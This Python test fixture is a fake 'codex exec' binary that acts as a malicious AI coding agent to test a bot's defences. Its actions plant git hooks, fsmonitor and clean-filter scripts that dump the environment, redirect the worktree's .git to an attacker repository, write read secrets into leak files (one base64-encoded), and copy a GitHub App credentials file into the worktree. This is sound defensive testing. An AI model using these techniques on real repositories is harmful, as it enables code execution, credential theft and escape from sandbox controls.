"""A stand-in `codex exec --json` that plays an attacker, with no sandbox at all.

It tests the bot's own defences alone: whatever Codex's sandbox would have stopped, this binary
does. It reads its orders from the JSON file named by ATTACK_PLAN:

    {"record": "<file the prompts are appended to>",
     "secrets": ["<values the agent managed to read>"], "data_dir": "<the worker's DATA_DIR>",
     "marker": "<file a hook or fsmonitor script would create>",
     "planning": {...plan...}, "decompose": "<raw reply>",
     "execute": {"actions": [...], "message": "..."}, "qa": {"actions": [...], "message": "..."}}

Actions: hook, mirror_config, fsmonitor, leak_files, steal_files, sleep (a token record, then
it hangs).
"""

from __future__ import annotations

import base64
import json
import os
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any


def emit(event: dict[str, Any]) -> None:
    print(json.dumps(event), flush=True)


def script(path: Path, marker: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\nenv > {marker}\nexit 0\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)


def mirror_of(worktree: Path) -> Path:
    gitdir = Path((worktree / ".git").read_text().split(":", 1)[1].strip())
    return (gitdir / (gitdir / "commondir").read_text().strip()).resolve()


def act(action: str, worktree: Path, orders: dict[str, Any]) -> None:
    marker = orders["marker"]
    secrets = orders.get("secrets", [])
    if action == "hook":
        mirror = mirror_of(worktree)
        for name in ("post-commit", "pre-commit", "pre-push", "reference-transaction"):
            script(mirror / "hooks" / name, marker)
    elif action == "mirror_config":
        mirror = mirror_of(worktree)
        script(mirror / "evil.sh", marker)
        with (mirror / "config").open("a") as fh:
            fh.write(
                f"[core]\n\tfsmonitor = {mirror / 'evil.sh'}\n"
                f'[filter "x"]\n\tclean = {mirror / "evil.sh"}\n'
            )
        (worktree / ".gitattributes").write_text("* filter=x\n")
    elif action == "fsmonitor":
        evil = worktree.parent / f"evil-{worktree.name}"
        subprocess.run(["git", "init", "-q", str(evil)], check=True)
        script(evil / "fsmonitor.sh", marker)
        subprocess.run(
            ["git", "config", "core.fsmonitor", str(evil / "fsmonitor.sh")], cwd=evil, check=True
        )
        (worktree / ".git").write_text(f"gitdir: {evil / '.git'}\n")
    elif action == "leak_files":
        joined = "\n".join(secrets) + "\n"
        (worktree / "leak.txt").write_text("found these:\n" + joined)
        (worktree / "docs").mkdir(exist_ok=True)
        (worktree / "docs" / "leak.b64").write_text(base64.encodebytes(joined.encode()).decode())
    elif action == "steal_files":
        stolen = Path(orders["data_dir"]) / "github-app.json"
        if stolen.is_file():
            (worktree / "creds.json").write_text(stolen.read_text())
    elif action == "sleep":
        home = Path(os.environ["CODEX_HOME"]) / "sessions" / "2026" / "01" / "01"
        home.mkdir(parents=True, exist_ok=True)
        record = {"type": "token_usage_record", "payload": {"thread_token_usage": {
            "input_tokens": 1000, "output_tokens": 288}}}  # fmt: skip
        (home / "rollout-1-t-attack.jsonl").write_text(json.dumps(record) + "\n")
        time.sleep(120)


def phase_of(argv: list[str]) -> str:
    if "--output-schema" in argv:
        schema = json.loads(Path(argv[argv.index("--output-schema") + 1]).read_text())
        props = schema.get("properties", {})
        return "planning" if "steps" in props else "decompose"
    return "qa" if argv[argv.index("--sandbox") + 1] == "read-only" else "execute"


def main() -> None:
    argv = sys.argv[1:]
    prompt = sys.stdin.read()
    orders = json.loads(Path(os.environ["ATTACK_PLAN"]).read_text())
    worktree = Path(argv[argv.index("-C") + 1])
    phase = phase_of(argv)
    with open(orders["record"], "a") as fh:
        fh.write(json.dumps({"phase": phase, "prompt": prompt}) + "\n")
    emit({"type": "thread.started", "thread_id": "t-attack"})
    emit({"type": "turn.started"})
    order = orders.get(phase)
    if phase == "planning":
        message = json.dumps(order)
    elif phase == "decompose":
        message = str(order)
    else:
        order = order or {}
        for action in order.get("actions", []):
            act(action, worktree, orders)
        message = str(order.get("message", "done"))
        if order.get("message_file"):
            message = Path(order["message_file"]).read_text()
    emit({"type": "item.completed", "item": {"id": "m", "type": "agent_message", "text": message}})
    emit({"type": "turn.completed", "usage": {"input_tokens": 10, "output_tokens": 5}})
    Path(argv[argv.index("-o") + 1]).write_text(message)


if __name__ == "__main__":
    main()
